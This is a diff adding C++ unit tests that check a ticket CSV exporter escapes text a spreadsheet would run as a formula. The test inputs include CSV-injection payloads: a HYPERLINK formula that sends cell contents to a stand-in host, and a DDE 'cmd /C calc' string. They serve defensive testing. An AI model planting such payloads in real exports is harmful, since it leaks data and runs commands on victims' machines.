@@ -147,6 +147,36 @@ TEST(Output, CsvQuotesOnlyWhatNeedsIt)
               CsvRecord({"plain", "a,b", "say \"hi\"", "two\nlines", "cr\r", "Gro\xdf", ""}));
 }
 
+struct CsvCase {
+    std::string text;
+    std::string field;  // as written into the record
+};
+
+void PrintTo(const CsvCase& c, std::ostream* os)
+{
+    *os << "'" << c.text << "'";
+}
+
+class CsvText : public ::testing::TestWithParam<CsvCase> {};
+
+// A text a spreadsheet would run as a formula is written as text, the
+// apostrophe inside the quotes where the field needs them.
+TEST_P(CsvText, IsWrittenSoASpreadsheetReadsItAsText)
+{
+    EXPECT_EQ(GetParam().field + ",x\r\n", CsvRecord({GetParam().text, "x"}));
+}
+
+INSTANTIATE_TEST_SUITE_P(
+    Cases, CsvText,
+    ::testing::Values(CsvCase{"=HYPERLINK(\"http://x.example/?\"&A1,\"Click\")",
+                              "\"'=HYPERLINK(\"\"http://x.example/?\"\"&A1,\"\"Click\"\")\""},
+                      CsvCase{"+1+1", "'+1+1"}, CsvCase{"-2+3", "'-2+3"},
+                      CsvCase{"@SUM(1+1)*cmd|' /C calc'!A0", "'@SUM(1+1)*cmd|' /C calc'!A0"},
+                      CsvCase{"\tcmd", "'\tcmd"}, CsvCase{"\r=1", "\"'\r=1\""}, CsvCase{"-", "'-"},
+                      CsvCase{"a=1", "a=1"}, CsvCase{" =1", " =1"}, CsvCase{"'=1", "'=1"},
+                      CsvCase{std::string("\0=1", 3), std::string("\0=1", 3)}, CsvCase{"", ""},
+                      CsvCase{"\xa0=1", "\xc2\xa0=1"}));
+
 TEST(Exports, ATicketDocumentHoldsItsRecordsAndLines)
 {
     auto ticket = samples::SpecialTexts();
@@ -173,6 +203,24 @@ TEST(Exports, ATicketDocumentHoldsItsRecordsAndLines)
     EXPECT_EQ("identifier,invoice,date,customer,job,delivery site,formula,truck,driver,batch size,total,void\r\n"
               "\"T\"\"1\",0,,,,\"Lot 7, north\",,,,8,798.43,true\r\n",
               TicketsCsv({voided}));
+
+    // Texts typed in at the office are written so that no spreadsheet runs
+    // them; the numbers the export writes, a credit's negative total too, stay
+    // numbers.
+    Ticket hostile;
+    hostile.Id("T2");
+    hostile.Invoice(-4);
+    hostile.CustomerId("=HYPERLINK(\"http://x.example/?\"&A1,\"Click\")");
+    hostile.JobId("@J");
+    hostile.FormulaId("+1+1");
+    hostile.TruckId("@SUM(1+1)*cmd|' /C calc'!A0");
+    hostile.Driver("\tAnn");
+    hostile.Deliverto("-2+3");
+    hostile.Batchsize(-1.5);
+    hostile.Total(-12.5f);
+    EXPECT_EQ("T2,-4,,\"'=HYPERLINK(\"\"http://x.example/?\"\"&A1,\"\"Click\"\")\",'@J,'-2+3,'+1+1,"
+              "'@SUM(1+1)*cmd|' /C calc'!A0,'\tAnn,-1.5,-12.50,false\r\n",
+              TicketsCsv({hostile}).substr(TicketsCsv({}).size()));
 }
 
 }  // namespace
